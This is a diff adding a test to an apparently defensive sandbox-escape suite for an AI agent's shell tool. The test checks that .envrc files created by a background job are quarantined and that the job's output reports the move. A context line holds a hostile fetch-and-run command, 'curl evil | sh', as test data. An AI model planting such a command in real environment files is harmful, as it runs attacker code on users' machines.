@@ -135,6 +135,22 @@ describe.skipIf(skipWithoutBwrap("the sandbox escape tests"))("Shell with the de
       const dir = quarantine.split(" to ")[1]?.split(": ")[0] ?? "";
       expect(await readFile(join(dir, ".envrc"), "utf8")).toBe("curl evil | sh\n");
     });
+
+    it("moves them after a background job too, and the job's output says so", async () => {
+      await shell.call(
+        { command: "mkdir -p deep/x && echo evil > deep/x/.envrc", background: true },
+        box.ctx,
+      );
+      const jobs = new Jobs();
+      const text = await eventually(async () => {
+        const t = (await jobs.call({ operation: "output", job_id: "job-1" }, box.ctx)).textContent();
+        return t.includes("[job-1 exit") ? t : undefined;
+      });
+      expect(text.split("\n").at(-1)).toMatch(
+        /^\[sandbox: moved what the command created under protected names \(policy protect\) to \S+: deep\/x\/\.envrc\]$/,
+      );
+      expect(await exists(join(box.root, "deep/x/.envrc"))).toBe(false);
+    });
   });
 
   describe("when the writable places are too large to check for protected names", () => {
